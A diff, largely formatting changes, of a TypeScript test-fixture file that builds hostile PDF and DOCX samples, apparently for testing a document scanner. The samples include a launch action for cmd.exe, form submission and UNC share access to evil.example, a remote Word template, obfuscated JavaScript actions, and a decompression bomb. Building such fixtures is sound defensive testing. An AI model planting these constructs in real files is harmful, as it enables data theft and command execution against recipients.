@@ -19,12 +19,17 @@ const document: Zippable = {
 export const docx = (more: Zippable = {}): Buffer => Buffer.from(zipSync({ ...document, ...more }))
 
 const relations = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
-const kindOf = (type: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`
+const kindOf = (type: string) =>
+  `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`
 const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
-  strToU8(`<Relationships ${relations}><Relationship Id="r1" Type="${kindOf(type)}" Target="${target}" ${mode}/></Relationships>`)
-const settings = (text: string | Uint8Array) => docx({ 'word/_rels/settings.xml.rels': typeof text === 'string' ? strToU8(text) : text })
+  strToU8(
+    `<Relationships ${relations}><Relationship Id="r1" Type="${kindOf(type)}" Target="${target}" ${mode}/></Relationships>`,
+  )
+const settings = (text: string | Uint8Array) =>
+  docx({ 'word/_rels/settings.xml.rels': typeof text === 'string' ? strToU8(text) : text })
 const template = `Type="${kindOf('attachedTemplate')}" Target="http://evil.example/t.dotm"`
-const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
+const utf16 = (text: string) =>
+  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
 const field = (...instructions: string[]) =>
   docx({
     'word/document.xml': strToU8(
@@ -54,7 +59,10 @@ function overlapping(): Buffer {
 }
 
 /** A whole PDF: objects by number, in the order given, with a table of where the last of each lies. */
-export function pdfOf(objects: readonly (readonly [number: number, body: string | Buffer])[], trailer = ''): Buffer {
+export function pdfOf(
+  objects: readonly (readonly [number: number, body: string | Buffer])[],
+  trailer = '',
+): Buffer {
   const parts = [Buffer.from('%PDF-1.7\n')]
   const at = new Map<number, number>()
   let length = parts[0]?.length ?? 0
@@ -68,14 +76,19 @@ export function pdfOf(objects: readonly (readonly [number: number, body: string 
     parts.push(part)
     length += part.length
   }
-  const table = [...at].map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`).join('')
+  const table = [...at]
+    .map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`)
+    .join('')
   const end = `xref\n0 1\n0000000000 65535 f \n${table}trailer\n<< /Size 100 /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`
   return Buffer.concat([...parts, Buffer.from(end, 'latin1')])
 }
 
 const page: readonly [number, string] = [2, '<< /Type /Pages /Kids [] /Count 0 >>']
-export const pdf = (catalog = '', more: readonly (readonly [number, string | Buffer])[] = [], trailer = ''): Buffer =>
-  pdfOf([[1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`], page, ...more], trailer)
+export const pdf = (
+  catalog = '',
+  more: readonly (readonly [number, string | Buffer])[] = [],
+  trailer = '',
+): Buffer => pdfOf([[1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`], page, ...more], trailer)
 
 const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
 const action = (dictionary: string) => pdf(`/OpenAction ${dictionary}`)
@@ -94,30 +107,58 @@ export const hostilePdfs: readonly HostileFile[] = [
   { name: 'hidden.pdf', bytes: packed('/ObjStm') },
   { name: 'hidden-spelled.pdf', bytes: packed('/Obj#53tm') },
   { name: 'hidden-spelled-first.pdf', bytes: packed('/#4fbjStm') },
-  { name: 'hidden-padded.pdf', bytes: packed('/ObjStm', { padding: `/Note (${'x'.repeat(600)})` }) },
+  {
+    name: 'hidden-padded.pdf',
+    bytes: packed('/ObjStm', { padding: `/Note (${'x'.repeat(600)})` }),
+  },
   { name: 'hidden-commented.pdf', bytes: packed('% /ObjStm\n/ObjStm') },
   { name: 'named-elsewhere.pdf', bytes: pdf('/OpenAction << /S 5 0 R >>', [[5, '/JavaScript']]) },
-  { name: 'script-in-stream.pdf', bytes: pdf('/OpenAction << /JS 5 0 R >>', [[5, '<< /Length 9 >>\nstream\napp.alert\nendstream']]) },
+  {
+    name: 'script-in-stream.pdf',
+    bytes: pdf('/OpenAction << /JS 5 0 R >>', [
+      [5, '<< /Length 9 >>\nstream\napp.alert\nendstream'],
+    ]),
+  },
   { name: 'additional.pdf', bytes: pdf('', [[7, `<< /Type /Page /AA << /O ${script} >> >>`]]) },
-  { name: 'in-hexadecimal.pdf', bytes: pdf('', [[7, '<A /Type /Page /AA << /O << /S /JavaScript /JS (app.alert(1)) >']]) },
+  {
+    name: 'in-hexadecimal.pdf',
+    bytes: pdf('', [[7, '<A /Type /Page /AA << /O << /S /JavaScript /JS (app.alert(1)) >']]),
+  },
   { name: 'next.pdf', bytes: action(`<< /S /GoTo /D [7 0 R /Fit] /Next ${script} >>`) },
   { name: 'deep.pdf', bytes: pdf(`/X ${'['.repeat(100_000)}${']'.repeat(100_000)}`) },
   { name: 'bomb.pdf', bytes: bombPdf() },
   { name: 'launch.pdf', bytes: action('<< /S /Launch /F (cmd.exe) >>') },
-  { name: 'sends.pdf', bytes: action('<< /S /SubmitForm /F << /FS /URL /F (http://evil.example) >> >>') },
+  {
+    name: 'sends.pdf',
+    bytes: action('<< /S /SubmitForm /F << /FS /URL /F (http://evil.example) >> >>'),
+  },
   { name: 'opens.pdf', bytes: action('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0] >>') },
   { name: 'share.pdf', bytes: action('<< /S /URI /URI (file://evil.example/share) >>') },
-  { name: 'script-link.pdf', bytes: action('<< /S /URI /URI <6a6176617363726970743a616c657274283129> >>') },
-  { name: 'elsewhere.pdf', bytes: pdf('', [[8, '<< /F (\\\\\\\\evil.example\\\\a) /Length 0 >>\nstream\n\nendstream']]) },
+  {
+    name: 'script-link.pdf',
+    bytes: action('<< /S /URI /URI <6a6176617363726970743a616c657274283129> >>'),
+  },
+  {
+    name: 'elsewhere.pdf',
+    bytes: pdf('', [[8, '<< /F (\\\\\\\\evil.example\\\\a) /Length 0 >>\nstream\n\nendstream']]),
+  },
   { name: 'carrier.pdf', bytes: pdf('/Names << /EmbeddedFiles 9 0 R >>') },
-  { name: 'attached.pdf', bytes: pdf('', [[7, '<< /Type /Annot /Subtype /FileAttachment /FS << /EF << /F 8 0 R >> >> >>']]) },
+  {
+    name: 'attached.pdf',
+    bytes: pdf('', [
+      [7, '<< /Type /Annot /Subtype /FileAttachment /FS << /EF << /F 8 0 R >> >> >>'],
+    ]),
+  },
   { name: 'media.pdf', bytes: pdf('', [[7, '<< /Type /Annot /Subtype /RichMedia >>']]) },
   { name: 'xfa.pdf', bytes: pdf('/AcroForm << /XFA [(a) 9 0 R] >>') },
   { name: 'sealed.pdf', bytes: pdf('', [[8, '<< /Filter /Standard /V 4 >>']], '/Encrypt 8 0 R') },
   { name: 'revised.pdf', bytes: pdf('', [[5, script], [5, '<< /Type /Metadata >>']]), without: 'app.alert' }, // prettier-ignore
   { name: 'loose.pdf', bytes: pdf('', [[5, '<< >>\nendobj\n%'], [6, `<< >>\nendobj\n/JavaScript (app.alert)`]]), without: 'app.alert' }, // prettier-ignore
   { name: 'archive-behind.pdf', bytes: Buffer.concat([pdf(), docx()]) },
-  { name: 'page-before.pdf', bytes: Buffer.concat([Buffer.from('<html><script>1</script>'), pdf()]) },
+  {
+    name: 'page-before.pdf',
+    bytes: Buffer.concat([Buffer.from('<html><script>1</script>'), pdf()]),
+  },
   { name: 'packed.pdf', bytes: gzipSync(pdf()) },
   { name: 'no-catalog.pdf', bytes: pdfOf([page]) },
   { name: 'cut.pdf', bytes: Buffer.from('%PDF-1.7\n1 0 obj') },
@@ -187,5 +228,8 @@ export const goodDocx = docx({
   ),
 })
 export const goodPdf = pdf('/OpenAction << /S /GoTo /D [7 0 R /Fit] >>', [
-  [7, '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /F 4 /A << /S /URI /URI (https://example.com/a?b=c:d) >> >>] >>'],
+  [
+    7,
+    '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /F 4 /A << /S /URI /URI (https://example.com/a?b=c:d) >> >>] >>',
+  ],
 ])
